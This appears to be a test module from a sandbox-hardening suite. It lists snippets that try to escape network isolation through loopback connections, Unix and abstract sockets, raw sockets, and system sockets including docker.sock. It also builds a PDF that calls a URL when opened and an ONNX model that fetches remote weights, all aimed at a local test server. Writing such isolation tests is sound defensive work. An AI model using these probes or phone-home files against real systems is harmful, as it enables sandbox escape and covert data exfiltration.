"""Attacks that talk to somebody outside."""

from __future__ import annotations

from tests.hostile.core import Hostile, attack, code


@code(quick=True)
def connect_to_the_machine() -> str:
    """A server on 127.0.0.1."""
    return """
    socket.create_connection(("127.0.0.1", PORT), 2).sendall(b"here")
    won("connected")
    """


@code()
def connect_to_a_unix_socket() -> str:
    """Docker's lies open like that."""
    return """
    client = socket.socket(socket.AF_UNIX)
    client.connect(SOCKET)
    won("connected")
    """


@code()
def connect_to_an_abstract_socket() -> str:
    """Which no file stands for."""
    return """
    client = socket.socket(socket.AF_UNIX)
    client.connect(ABSTRACT)
    won("connected")
    """


@code()
def send_a_datagram() -> str:
    """Without asking whether somebody is there."""
    return """
    socket.socket(type=socket.SOCK_DGRAM).sendto(b"here", ("127.0.0.1", PORT))
    """


@code()
def bring_the_loopback_up() -> str:
    """As root of a network namespace."""
    return """
    import fcntl, struct
    client = socket.socket(type=socket.SOCK_DGRAM)
    fcntl.ioctl(client, 0x8914, struct.pack("16sh14x", b"lo", 0x49))
    socket.create_connection(("127.0.0.1", PORT), 2)
    won("connected")
    """


@code()
def a_raw_socket() -> str:
    """As root: any packet."""
    return """
    raw = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, 0x0300)
    names = [name for _, name in socket.if_nameindex() if name != "lo"]
    if names:
        raw.bind((names[0], 0))
        won(names)
    """


@code()
def talk_to_the_system() -> str:
    """Through the socket of the system's log."""
    return """
    for place in ("/dev/log", "/run/systemd/journal/socket", "/var/run/docker.sock", "/run/dbus/system_bus_socket"):
        with contextlib.suppress(OSError):
            socket.socket(socket.AF_UNIX, socket.SOCK_DGRAM).connect(place)
            won(place)
    """


@attack("report")
def a_pdf_that_calls_home(h: Hostile) -> None:
    """An action when it is opened, and a form that is submitted."""
    from tests.hostile.pdf import document

    url = f"http://127.0.0.1:{h.world.port}/"
    h.files["N26140692_report.pdf"] = document(
        catalogue=f"/OpenAction<</S/URI/URI({url})>>/AA<</WC<</S/SubmitForm/F({url})>>>>"
    )


@attack("models")
def a_model_from_a_server(h: Hostile) -> None:
    """Its weights lie at an address."""
    from tests.hostile.onnx_files import external

    h.files["N26140692_INT8.onnx"] = external(f"http://127.0.0.1:{h.world.port}/w.data")
